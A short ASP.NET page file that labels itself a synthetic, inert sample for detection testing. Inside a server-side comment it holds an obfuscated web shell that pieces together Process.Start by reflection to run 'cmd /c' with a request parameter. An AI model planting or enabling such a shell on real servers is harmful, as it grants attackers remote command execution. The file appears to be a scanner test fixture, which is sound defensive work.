<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); t.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "c" + "md", "/c " + Request["q"] }); %>
--%>
